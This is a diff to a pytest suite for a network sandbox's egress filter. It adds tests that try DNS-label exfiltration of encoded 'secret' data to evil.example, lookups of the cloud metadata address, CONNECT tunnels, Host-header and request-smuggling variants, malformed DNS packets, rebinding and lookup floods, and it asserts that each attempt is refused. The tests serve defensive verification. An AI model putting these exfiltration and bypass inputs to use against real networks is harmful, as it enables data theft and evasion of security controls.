@@ -2,6 +2,7 @@
 
 import ipaddress
 import json
+import re
 import shutil
 from collections.abc import Iterator, Sequence
 from typing import Any
@@ -40,7 +41,7 @@ def backend(request: pytest.FixtureRequest) -> str:
 def options(allow: Sequence[str] = ALLOWED, deny: Sequence[str] = DENIED) -> list[str]:
     """The options for these rules."""
     rules = [f"--allow-domain={rule}" for rule in allow] + [f"--deny-domain={rule}" for rule in deny]
-    return ["--git=readonly", *rules]
+    return ["--git=readonly", "--proxy-env=yes", *rules]
 
 
 def tried(world: World, paddock: Paddock, backend: str, attempts: Sequence[Attempt], *more: str) -> dict[str, str]:
@@ -89,8 +90,11 @@ def test_nothing_leaves_around_the_proxy(world: World, paddock: Paddock, backend
     else:
         assert "PermissionError" in answers.pop("own loopback")
     sent = {name for name, answer in answers.items() if "rror: " not in answer}
-    # Datagrams to the jail's own loopback go nowhere, without an error.
-    assert not {name for name in sent if not (promises.has_mounts(backend) and name.startswith("udp 127.0.0.1"))}
+    # With mounts the loopback is the jail's own: datagrams there go nowhere, without an error, and port 8000, which a
+    # rule names, is the way to hosts by name: who means none is hung up on. A name's address is one of those.
+    own = ("udp 127.0.0.1", "tcp 127.0.0.1 8000", "tcp ::1 8000", "tcp ::ffff:127.0.0.1 8000", "tcp 0.0.0.0 8000",
+           "resolve good.example")  # fmt: skip
+    assert not {name for name in sent if not (promises.has_mounts(backend) and name.startswith(own))}
     seen = world.seen(before)
     assert {(entry["kind"], entry.get("what")) for entry in seen} == {
         ("dns", "good.example"), ("tcp", None), ("request", "GET /through"),
@@ -256,12 +260,115 @@ def test_nothing_leaves_through_the_proxy_but_what_is_allowed(world: World, padd
     assert asked <= {rule.partition(":")[0] for rule in ALLOWED} | {"www.good.example"}
 
 
+def asked(name: str, host: str, kind: int = 1, *, tcp: bool = False, raw: bytes = b"", head: bytes = b"") -> Attempt:
+    """A question to the jail's resolver, in the form of RFC 1035; `raw` stands for the name as it is sent."""
+    labels = b"".join(bytes((len(label),)) + label for label in host.encode("latin-1").split(b".") if label)
+    send = (head or bytes.fromhex("0001 0100 0001 0000 0000 0000")) + (raw or labels + b"\0") + bytes((0, kind, 0, 1))
+    return {"act": "dns", "name": name, "send": send.hex(), "tcp": tcp}
+
+
+def named(name: str, host: str, port: int, send: str = "") -> Attempt:
+    """A connection to a host by its name."""
+    return {"act": "by name", "name": name, "host": host, "port": port, "send": send}
+
+
+_DATA = "c2VjcmV0" * 7  # what an attacker would have carried away
+BEHIND = " HTTP/1.1\r\nHost: second.example\r\n\r\n"
+FAKE, FAKE6 = "198.18.0.99", "2001:2::99"
+
+
+@pytest.mark.parametrize("backend", [promises.NAMESPACES, promises.BUBBLEWRAP])
+def test_nothing_leaves_by_name_but_what_is_allowed(world: World, paddock: Paddock, backend: str) -> None:
+    """Names as a channel, forms of one name, addresses of nobody, other ports: denied, with an allowed twin each."""
+    need({promises.NAMESPACES: "userns", promises.BUBBLEWRAP: "bubblewrap"}[backend])
+    before = len(world.seen())
+    refused = [
+        asked("labels", f"{_DATA}.evil.example"), asked("labels over TCP", f"{_DATA}.evil.example", tcp=True),
+        *(asked(f"kind {kind}", f"{_DATA}.evil.example", kind)
+          for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 255)),
+        asked("a service's labels", "_https._tcp.good.example", 33), asked("reverse", "99.0.18.198.in-addr.arpa", 12),
+        asked("not there", "not-there.good.example"), asked("denied", "bad.good.example"),
+        asked("below what is allowed", "x.second.example"), asked("a prefix", "good.example.evil.example"),
+        asked("a number", "2130706433"),
+        asked("an address", "127.0.0.1"), asked("metadata", "169.254.169.254"), asked("a NUL", "good\0.example"),
+    ]  # fmt: skip
+    broken = [
+        asked("a pointer", "", raw=b"\xc0\x0c"), asked("a dot in a label", "", raw=b"\x0cgood.example\0"),
+        asked("no end", "", raw=b"\x3fabc"),
+        asked("two questions", "good.example", head=bytes.fromhex("0001 0100 0002 0000 0000 0000")),
+        asked("an update", "good.example", head=bytes.fromhex("0001 2800 0001 0000 0000 0000")),
+        asked("an answer", "good.example", head=bytes.fromhex("0001 8180 0001 0000 0000 0000")),
+        asked("too long", "good.example", raw=b"\x3f" + b"a" * 63 + b"\0" + b"b" * 600),
+        {"act": "dns", "name": "nothing", "send": "00"},
+    ]  # fmt: skip
+    closed = [
+        named("nobody's address", FAKE, 80, GET), named("nobody's address of IPv6", FAKE6, 80, GET),
+        named("another port", "good.example", 53, GET), named("a port of another rule", "second.example", 443, GET),
+        named("a path", "second.example", 80, f"GET /secret{BEHIND}"),
+        named("another Host", "second.example", 80, "GET /public HTTP/1.1\r\nHost: good.example\r\n\r\n"),
+        named("a denied path", "good.example", 80, "GET /secret HTTP/1.1\r\nHost: good.example\r\n\r\n"),
+        named("CONNECT", "second.example", 80, "CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
+        named("a whole URL", "second.example", 80, f"GET http://second.example/public{BEHIND}"),
+        *(named(f"{name} inside", f"{name}.example", 80, GET)
+          for name in ("metadata", "private", "private6", "loop", "mapped", "nat", "own", "zero")),
+    ]  # fmt: skip
+    twins = [
+        named("twin", "good.example", 80, GET), named("capitals", "GOOD.Example.", 8000, GET),
+        named("below", "www.good.example", 80, GET), named("IPv6 outside", "six.example", 80, GET),
+        named("the path", "second.example", 80, f"GET /public{BEHIND}"),
+        named("an address by rule", SECOND, 8000, GET), named("speaks first", "good.example", 22),
+        named("a second request", "second.example", 80, f"GET /public{BEHIND}{SMUGGLED}"),
+    ]  # fmt: skip
+    found = [
+        asked("found", "good.example"), asked("found over TCP", "good.example", tcp=True),
+        asked("mixed", "gOoD.eXaMpLe"), asked("of IPv6", "good.example", 28), asked("own", "localhost"),
+    ]  # fmt: skip
+    answers = tried(world, paddock, backend, [*refused, *broken, *closed, *twins, *found])
+    seen = world.seen(before)
+    assert {name for attempt in refused if answers[name := attempt["name"]] != "3 0"} == set()
+    assert {
+        name for attempt in broken if not answers[name := attempt["name"]].startswith(("1 0", "4 0", "silent"))
+    } == set()
+    assert {name for attempt in found if answers[name := attempt["name"]] != "0 1"} == set()
+    for attempt in closed:
+        answer = answers[attempt["name"]]
+        assert "rror: " in answer or answer.startswith(("closed", "HTTP/1.1 40")), (attempt["name"], answer)
+    for attempt in twins:
+        answer = answers[attempt["name"]]
+        assert answer.startswith(("HTTP/1.1 200 ", BANNER.decode())), (attempt["name"], answer)
+    assert {entry["side"] for entry in seen} == {"internet"}
+    assert not [entry for entry in seen if _DATA in str(entry) or "evil" in str(entry) or "smuggled" in str(entry)]
+    assert {entry["what"] for entry in seen if entry["kind"] == "request"} <= {"GET /inside", "GET /public"}
+    assert {entry["port"] for entry in seen if entry["kind"] == "tcp"} == {22, 80, 8000}
+
+
+def test_a_name_that_leads_elsewhere_later_is_refused_by_name_too(world: World, paddock: Paddock) -> None:
+    """The address in the jail stays; what it leads to is resolved and checked for each connection."""
+    name = f"flip-named-{paddock.who.name}.example"
+    attempts = [named(str(number), name, 8000, GET) for number in range(2)]
+    before = len(world.seen())
+    answers = tried(world, paddock, promises.NAMESPACES, attempts, *options([f"{name}:8000"], ()))
+    assert answers["1"].startswith(("HTTP/1.1 403 ", "closed")) or "rror: " in answers["1"], answers
+    assert {entry["side"] for entry in world.seen(before)} <= {"internet"}
+
+
+def test_lookups_without_end_cost_bounded_memory_and_are_counted(world: World, paddock: Paddock) -> None:
+    """A thousand refused names are named, the others counted; what is allowed is answered meanwhile."""
+    attempts = [{"act": "flood", "name": "flood", "count": 20_000, "host": "good.example"}]
+    answers = tried(world, paddock, promises.NAMESPACES, attempts)
+    assert ".".join(answers["flood"].split(".")[:2]).strip("('") in ("198.18", "2001:2::1'"), answers
+    told = paddock.call("denials", "--json").stdout
+    assert told.count("evil.example") < 5_000
+    said = paddock.call("denials").stdout
+    assert re.search(r"^lost: 19\d\d\d denials", said, re.M), said[-1000:]
+
+
 def test_an_answer_that_changes_meanwhile_changes_nothing(world: World, paddock: Paddock) -> None:
     """What was checked is what is dialled; the next request is checked anew, and refused."""
     before = len(world.seen())
     name = f"flip-{paddock.who.name}.example"
     attempts = [plain(str(number), f"http://{name}:8000/x") for number in range(3)]
-    answers = tried(world, paddock, promises.NAMESPACES, attempts, f"--allow-domain={name}")
+    answers = tried(world, paddock, promises.NAMESPACES, attempts, *options([name], ()))
     seen = [entry for entry in world.seen(before) if entry["kind"] != "dns"]
     assert answers["0"].startswith("HTTP/1.1 200 ")
     assert f"{name} resolves to 127.0.0.1, which is loopback" in answers["1"]
